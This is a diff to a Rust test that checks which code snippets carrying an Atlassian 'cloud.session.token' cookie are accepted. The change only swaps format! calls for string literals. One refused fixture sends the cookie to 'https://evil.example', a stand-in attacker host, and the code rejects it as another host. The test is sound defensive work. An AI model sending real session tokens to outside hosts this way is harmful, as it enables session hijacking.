@@ -125,7 +125,7 @@ fn code_of_many_languages() {
             format!("s.cookies[\"cloud.session.token\"] = \"a.b.c\"\ns.get(\"{URL}\")"),
             "cookies = {'cloud.session.token': 'a.b.c'}".to_owned(),
             "COOKIES = dict([(\"cloud.session.token\", \"a.b.c\")])".to_owned(),
-            format!("token = 'a.b.c'\nbase = 'https://admin.atlassian.com'\nrequests.get(f'{{base}}/x', cookies={{'cloud.session.token': token}})"),
+            "token = 'a.b.c'\nbase = 'https://admin.atlassian.com'\nrequests.get(f'{base}/x', cookies={'cloud.session.token': token})".to_owned(),
             format!("token = \"a.b.c\"\nrequests.get('{URL}', headers={{'Cookie': f'cloud.session.token={{token}}'}})"),
             format!("const t = 'a.b.c';\naxios.get('{URL}', {{ headers: {{ Cookie: `cloud.session.token=${{t}}` }} }})"),
             format!("var t = 'a.b.c';\n$.get({{ url: '{URL}', headers: {{ 'Cookie': 'cloud.session.token=' + t }} }})"),
@@ -144,9 +144,8 @@ fn code_of_many_languages() {
     );
     refuses(&[
         (
-            format!(
-                "requests.get('https://evil.example', cookies={{'cloud.session.token': 'a.b.c'}})"
-            ),
+            "requests.get('https://evil.example', cookies={'cloud.session.token': 'a.b.c'})"
+                .to_owned(),
             CaptureError::OtherHost,
         ),
         (
